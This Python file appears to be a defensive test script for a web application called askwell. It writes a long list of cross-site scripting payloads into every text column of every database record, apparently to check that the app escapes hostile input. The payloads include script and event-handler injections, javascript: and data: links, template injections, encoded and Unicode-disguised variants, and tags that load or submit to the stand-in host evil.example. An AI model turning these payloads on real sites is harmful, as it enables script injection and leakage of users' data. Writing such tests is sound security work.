"""Text that wants to be a script, in every column of every record of a worked journey. Run as a program on its home:

python -m threats.hostile_text HOME < the texts, as JSON
"""

from __future__ import annotations

import json
import sys
from itertools import cycle
from pathlib import Path
from typing import Any

# Each tries to run `pwned = 1`, or to ask evil.example for something.
VECTORS = (
    "<script>pwned=1</script>",
    "\"'><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "<!--><script>pwned=1</script>-->",
    "\"'><img src=x onerror=pwned=1>",
    "<img src=//evil.example/a>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></mglyph></table></mtext></math>",
    '" autofocus onfocus=pwned=1 x="',
    "' onmouseover=pwned=1 style=position:fixed;inset:0 x='",
    "` onclick=pwned=1 `",
    "javascript:pwned=1",
    " java\tscript:pwned=1",
    "JaVaScRiPt:pwned=1//https://a.example",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned=1",
    "<a href=javascript:pwned=1>a</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=//evil.example/b></object>",
    "<link rel=stylesheet href=//evil.example/c>",
    "<style>@import '//evil.example/d';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/e'>",
    "<form action=//evil.example/f><button autofocus>g</button></form>",
    "{{ 7|add:7 }}{% include 'x' %}${pwned=1}",
    "<template hx-on:load=pwned=1><div hx-get=//evil.example/h hx-trigger=load>",
    "%3Cscript%3Epwned=1%3C/script%3E&lt;script&gt;&#60;script&#62;pwned=1",
    "\u202e<script>\u2066pwned=1\u2069</script>\ufeff\u0000",
    "＜script＞pwned=1＜/script＞\u02bb\u02ba\u2028pwned=1\u2029",
)
# All that break out of a place, in one: the first for short columns, the rest for the long ones.
COMBINED = "\"'><img src=x onerror=pwned=1></script></title></textarea>" + "".join(
    vector.replace("\x00", "") for vector in VECTORS if not vector.startswith(("<form", "<meta", "<!--"))
)
LINK = "javascript:pwned=1//"
ZONES = {"time_zone", "my_time_zone", "their_time_zone"}
# What is no text of anybody's: names of files and kinds, digests, and what the database keeps for itself.
LEFT_ALONE = {"stored_as", "kind", "country", "digest", "key", "entry", "client", "mark", "settled", "language"}


def poison(texts: list[str]) -> int:
    """Put the texts, one after the other, into every column of every record that holds words; how many it were."""
    from askwell.journey import keeping

    turn, written = cycle(text.replace("\x00", "") for text in texts), 0
    for noun in keeping.nouns():
        columns = [field for field in noun._meta.concrete_fields if _holds_words(field)]
        for record in noun.everything.all():
            values = {field.name: _value(field, next(turn), record.pk) for field in columns}
            noun.everything.filter(pk=record.pk).update(**values, owner=record.owner)
            written += len(values)
    return written


def _holds_words(field: Any) -> bool:
    words = ("CharField", "TextField", "JSONField", "URLField", "FoldedField")
    return _kind(field) in words and not field.choices and field.name not in ZONES | LEFT_ALONE


def _kind(field: Any) -> str:
    return type(field).__name__


def _value(field: Any, text: str, number: int) -> Any:
    if _kind(field) == "JSONField":
        found = {"text": text, "what": text, "mend": text, "line": 1, "why": text, "href": LINK}
        return [found] if field.default is list else {text: text}
    if _kind(field) == "URLField" or (field.name in {"value", "normalized"} and number % 2):
        return f"{LINK}{number} {text}"[: field.max_length]
    return f"{text}{number}" if field.max_length is None else text[: field.max_length - 6] + str(number)


def main(home: Path) -> None:
    """One record more of every noun, an address of every kind, and then the poison."""
    from askwell.config import database
    from askwell.config.home import Home

    database.prepare(Home(home))
    from askwell.journey import account
    from askwell.records.models import Contact, ContactPoint
    from every_noun import one_of_each

    owner, texts = account.local_owner(), json.load(sys.stdin)
    one_of_each(owner)
    ben = Contact.objects.of(owner).filter(is_me=False).first()
    for kind in ContactPoint.Kind.values:
        for number in range(2):  # one that is a link, one that is text
            ContactPoint.objects.create(owner=owner, contact=ben, kind=kind, value=number, normalized=number)
    account.change_account(owner=owner, formatted_name=texts[0][:200], introduction=texts[0][:300])
    print(poison(texts))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
